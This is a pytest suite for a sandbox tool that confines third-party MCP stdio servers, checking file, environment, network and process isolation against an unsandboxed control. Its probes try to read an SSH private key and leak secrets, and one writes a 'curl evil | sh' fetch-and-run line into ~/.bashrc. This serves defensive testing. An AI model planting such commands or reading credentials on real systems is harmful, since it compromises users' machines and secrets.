"""The recipe for third-party stdio MCP servers (issue 17, item 7): the MCP client's `command`
becomes `sandboxd run --workspace DIR --network --allow-domain API-HOST -- SERVER...`.

A small MCP server (tests/mcp_recipe_server.py, the `mcp` SDK's MCPServer) does what a server
fetched by `npx -y` could do with its user's rights; the SDK's own stdio client drives it with the
recipe's command line, as Claude Code or Codex would. The user is a plain user made here, with a
home holding a fake ~/.ssh/id_rsa and a ~/.bashrc, and a workspace in that home. Every wall has
its control: the same server, as the same user, without sandboxd, reads the key, writes outside,
sees the client's secrets and connects where it likes.

The network is the small world of tests/test_isolated_network.py (namespaces and veths: nothing
leaves the machine): internet.test is the allowed API host, other.test is not; with the TLS hosts
of tests/tls_world.py added, for the recipe with `--credential` (api.test.example over HTTPS, its
test CA given to `sandboxd run` as SSL_CERT_FILE): the server calls its API with the token it was
given, the API receives the real secret, and the server's environment holds only the phantom.

Who runs the MCP client is a parameter (CLIENT_USERS): "root" (the command then runs as the
workspace's owner, the plain user) and "plain", the usual case: the client's command runs as the
plain user itself (setpriv), so `sandboxd run` is rootless.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import anyio
import pytest
from mcp import ClientSession
from mcp.client.stdio import StdioServerParameters, stdio_client

from conftest import PY, SANDBOXD, SLOW, WRITE_DENIED_ERRNOS
from daemon_helpers import PlainUser, plain_users
from test_isolated_network import DNS, INTERNET, OTHER, World
from tls_world import API_HOST as TLS_API_HOST
from tls_world import NAMES, TlsWorld, needs_issue_26, tls_world  # noqa: F401 - the fixture

pytestmark = pytest.mark.timeout(300)

SERVER = str(Path(__file__).with_name("mcp_recipe_server.py"))
# The SDK, for the system Python the server runs on as any user (the venv's interpreter may live
# in root's home): the venv's site-packages, which are built for the same Python version.
SITE_PACKAGES = str(next((Path(__file__).resolve().parents[1] / ".venv" / "lib").glob("python3*/site-packages")))
API_HOST = "internet.test"
# "plain": the client runs the recipe as the plain user (rootless `sandboxd run`).
CLIENT_USERS = ("root", "plain")
# What the MCP client hands its server in `env`: one secret the recipe names, one it does not.
CLIENT_ENV = {"API_TOKEN": "token-for-the-api", "AWS_SECRET_ACCESS_KEY": "not-for-the-server"}


@dataclass
class Machine:
    """The user's side of the machine: a plain user, its home with a key, a workspace in it."""
    user: PlainUser
    home: Path
    workspace: Path
    key: Path
    bashrc: Path
    outside: Path                      # a directory outside the workspace the user may write on the host
    client_user: str

    def as_user(self) -> list[str]:
        return ["setpriv", f"--reuid={self.user.uid}", f"--regid={self.user.gid}", "--clear-groups", "--"]

    def recipe(self) -> list[str]:
        """The MCP client's command: the recipe around the server, run by the client's user."""
        recipe = [SANDBOXD, "run", "--workspace", str(self.workspace), "--network", "--dns", DNS,
                  "--allow-domain", API_HOST, "--pass-env", "API_TOKEN", "--env", f"PYTHONPATH={SITE_PACKAGES}",
                  "--", PY, SERVER]
        return (self.as_user() if self.client_user == "plain" else []) + recipe

    def unsandboxed(self) -> list[str]:
        """The control: the same server, as the same user, with nothing around it."""
        return [*self.as_user(), PY, SERVER]

    def client_env(self) -> dict[str, str]:
        return {**CLIENT_ENV, "HOME": str(self.home), "PYTHONPATH": SITE_PACKAGES}


@pytest.fixture(scope="module")
def world(tls_world: TlsWorld) -> World:  # noqa: F811
    """The world of test_isolated_network.py, inside the TLS world (one world at a time: its lock)."""
    return tls_world.world


@pytest.fixture(params=CLIENT_USERS)
def machine(request: pytest.FixtureRequest, base_dir: Path) -> Iterator[Machine]:
    with plain_users(1) as (user,):
        home = base_dir / "home"
        (home / ".ssh").mkdir(parents=True)
        (home / "project").mkdir()
        outside = base_dir / "outside"
        outside.mkdir(mode=0o777)
        os.chmod(outside, 0o777)
        key, bashrc = home / ".ssh" / "id_rsa", home / ".bashrc"
        key.write_text(f"FAKE PRIVATE KEY {uuid.uuid4().hex}\n")
        bashrc.write_text("# the user's own\n")
        for path in (home, home / ".ssh", home / "project", key, bashrc):
            os.chown(path, user.uid, user.gid)
        os.chmod(home, 0o700)
        os.chmod(home / ".ssh", 0o700)
        key.chmod(0o600)
        subprocess.run(["usermod", "-d", str(home), user.name], check=True, capture_output=True, timeout=60)
        yield Machine(user, home, home / "project", key, bashrc, outside, str(request.param))


async def _drive(command: list[str], env: dict[str, str], calls: dict[str, tuple[str, dict[str, object]]],
                 transport_errors: list[object]) -> dict[str, str]:
    async def on_message(message: object) -> None:
        if isinstance(message, Exception):               # a line on stdout that is not JSON-RPC
            transport_errors.append(message)

    outcome: dict[str, str] = {}
    server = StdioServerParameters(command=command[0], args=command[1:], env=env)
    with anyio.fail_after(120 * SLOW):
        async with stdio_client(server) as (read, write):
            async with ClientSession(read, write, message_handler=on_message) as session:
                await session.initialize()
                listed = await session.list_tools()
                outcome["tools"] = " ".join(sorted(tool.name for tool in listed.tools))
                for label, (tool, arguments) in calls.items():
                    result = await session.call_tool(tool, arguments)
                    text = result.content[0]
                    outcome[label] = getattr(text, "text", repr(text))
    return outcome


def drive(command: list[str], env: dict[str, str], calls: dict[str, tuple[str, dict[str, object]]]) -> dict[str, str]:
    """Start ``command`` as an MCP stdio server with the SDK's client, make ``calls`` (label: tool,
    arguments), close. Fails on any stdout line that is not JSON-RPC."""
    transport_errors: list[object] = []
    outcome = anyio.run(_drive, command, env, calls, transport_errors)
    assert transport_errors == [], f"the server's stdout carried something else than JSON-RPC: {transport_errors}"
    return outcome


def probe_calls(machine: Machine, *, sandboxed: bool) -> dict[str, tuple[str, dict[str, object]]]:
    return {
        "key": ("read_file", {"path": str(machine.key)}),
        "outside": ("write_file", {"path": str(machine.outside / "planted"), "text": "x"}),
        "bashrc": ("write_file", {"path": str(machine.bashrc), "text": "curl evil | sh\n"}),
        "home": ("write_file", {"path": "/tmp/home/.npmrc" if sandboxed else str(machine.home / ".npmrc"),
                                "text": "cache\n"}),
        "workspace": ("write_file", {"path": str(machine.workspace / "notes.md"), "text": "from the server\n"}),
        "env": ("environment", {}),
        "api": ("fetch", {"url": f"http://{API_HOST}:8080/"}),
        "other": ("fetch", {"url": "http://other.test:8080/"}),
        "direct other": ("connect", {"host": OTHER, "port": 8080}),
        "direct api": ("connect", {"host": INTERNET, "port": 8080}),
    }


def test_the_recipe_walls_a_third_party_server(world: World, machine: Machine) -> None:
    seen = drive(machine.recipe(), machine.client_env(), probe_calls(machine, sandboxed=True))
    assert seen["tools"] == "connect environment fetch fetch_with_token leave_behind read_file write_file"
    # Files: the user's key is not there, nothing outside the workspace is writable (the home
    # included), the workspace is the server's to write.
    assert seen["key"] == "error: ENOENT", seen
    assert seen["outside"].removeprefix("error: ") in WRITE_DENIED_ERRNOS, seen
    assert not (machine.outside / "planted").exists()
    assert seen["bashrc"].removeprefix("error: ") in WRITE_DENIED_ERRNOS, seen
    assert machine.bashrc.read_text() == "# the user's own\n"
    assert seen["home"] == "written", seen                             # its own HOME, private, is writable
    assert seen["workspace"] == "written", seen
    assert (machine.workspace / "notes.md").read_text() == "from the server\n"
    assert (machine.workspace / "notes.md").stat().st_uid == machine.user.uid
    # Environment: the secret named with --pass-env, not the other; HOME is a private one.
    inside = json.loads(seen["env"])
    assert inside["uid"] == machine.user.uid
    assert inside["env"]["API_TOKEN"] == CLIENT_ENV["API_TOKEN"]
    assert "AWS_SECRET_ACCESS_KEY" not in inside["env"], inside
    assert inside["env"]["HOME"] == "/tmp/home"
    # Network: the allowed API host through the proxy; nothing else, not even it directly.
    assert seen["api"] == "open: hello from internet", seen
    assert seen["other"] == "http 403", seen
    assert seen["direct other"].startswith("error: ") and seen["direct api"].startswith("error: "), seen


def test_without_sandboxd_the_same_server_reaches_everything(world: World, machine: Machine) -> None:
    seen = drive(machine.unsandboxed(), machine.client_env(), probe_calls(machine, sandboxed=False))
    assert seen["key"] == "read: " + machine.key.read_text()
    assert seen["outside"] == "written" and (machine.outside / "planted").exists()
    assert seen["bashrc"] == "written" and machine.bashrc.read_text() == "curl evil | sh\n"
    assert json.loads(seen["env"])["env"]["AWS_SECRET_ACCESS_KEY"] == CLIENT_ENV["AWS_SECRET_ACCESS_KEY"]
    assert seen["direct other"] == "open", seen                        # the host routes to the world


def leftovers(marker: str) -> list[int]:
    """Host pids of processes whose argv[0] is ``marker``."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                if f.read().split(b"\0", 1)[0] == marker.encode():
                    found.append(int(pid))
        except OSError:
            continue
    return found


def test_the_server_and_what_it_started_end_with_the_client(world: World, machine: Machine) -> None:
    unsandboxed_marker, marker = f"leftover-{uuid.uuid4().hex[:8]}", f"leftover-{uuid.uuid4().hex[:8]}"
    try:
        drive(machine.unsandboxed(), machine.client_env(), {"start": ("leave_behind", {"marker": unsandboxed_marker})})
        assert leftovers(unsandboxed_marker), "control: unsandboxed, the process outlives the server"
        drive(machine.recipe(), machine.client_env(), {"start": ("leave_behind", {"marker": marker})})
        deadline = time.monotonic() + 10 * SLOW
        while leftovers(marker) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert leftovers(marker) == [], "the sandboxed server's process outlived its client"
    finally:
        for pid in leftovers(unsandboxed_marker) + leftovers(marker):
            os.kill(pid, signal.SIGKILL)


def test_stdio_carries_json_rpc_only_and_eof_ends_the_server(machine: Machine) -> None:
    """No byte of sandboxd's on the server's stdout; stdin reaches the server; its EOF ends the
    server and `sandboxd run` with status 0."""
    command = [c for c in machine.recipe() if c not in ("--network", "--dns", DNS, "--allow-domain", API_HOST)]
    proc = subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            env={**os.environ, **machine.client_env()})
    assert proc.stdin is not None and proc.stdout is not None
    try:
        def send(message: dict[str, object]) -> None:
            assert proc.stdin is not None
            proc.stdin.write(json.dumps({"jsonrpc": "2.0", **message}).encode() + b"\n")
            proc.stdin.flush()

        send({"id": 1, "method": "initialize", "params": {"protocolVersion": "2025-06-18", "capabilities": {},
                                                          "clientInfo": {"name": "raw", "version": "0"}}})
        first = json.loads(proc.stdout.readline())
        assert first["id"] == 1 and first["result"]["serverInfo"]["name"] == "recipe-probe", first
        send({"method": "notifications/initialized"})
        send({"id": 2, "method": "tools/call", "params": {"name": "write_file", "arguments": {
            "path": str(machine.workspace / "raw.txt"), "text": "raw"}}})
        second = json.loads(proc.stdout.readline())
        assert second["id"] == 2 and second["result"]["content"][0]["text"] == "written", second
        proc.stdin.close()                                  # the client goes: EOF on the server's stdin
        rest = proc.stdout.read()
        status = proc.wait(timeout=30 * SLOW)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
        stderr = proc.stderr.read() if proc.stderr else b""
    assert rest == b"", f"after the replies, stdout carried {rest[:500]!r}"
    assert status == 0, stderr.decode(errors="replace")
    assert (machine.workspace / "raw.txt").read_text() == "raw"



@needs_issue_26
def test_the_recipe_with_credential_keeps_the_token_out_of_the_server(tls_world: TlsWorld,  # noqa: F811
                                                                     machine: Machine) -> None:
    """The recipe as docs/mcp-servers.md gives it for API tokens: `--credential` instead of
    `--pass-env`. The server calls its API with the variable it was given and the API receives the
    real token; the server's environment holds only the phantom (control: the --pass-env recipe
    above hands the server the token itself)."""
    token = f"ghp_{uuid.uuid4().hex}"
    recipe = [SANDBOXD, "run", "--workspace", str(machine.workspace), "--network", "--dns", NAMES,
              "--credential", f"API_TOKEN=https://{TLS_API_HOST}", "--env", f"PYTHONPATH={SITE_PACKAGES}",
              "--", PY, SERVER]
    command = (machine.as_user() if machine.client_user == "plain" else []) + recipe
    env = {**machine.client_env(), "API_TOKEN": token, "SSL_CERT_FILE": str(tls_world.ca_file)}
    seen = drive(command, env, {"api": ("fetch_with_token", {"url": f"https://{TLS_API_HOST}/mcp-recipe",
                                                             "variable": "API_TOKEN"}),
                                "env": ("environment", {})})
    assert seen["api"] == "open: hello /mcp-recipe", seen
    received = [s.headers.get("authorization") for s in tls_world.api.seen if s.path == "/mcp-recipe"]
    assert received[-1] == f"Bearer {token}", received
    inside = json.loads(seen["env"])["env"]
    assert inside["API_TOKEN"].startswith("sbxp_"), inside
    assert token not in seen["env"] and "AWS_SECRET_ACCESS_KEY" not in inside, inside
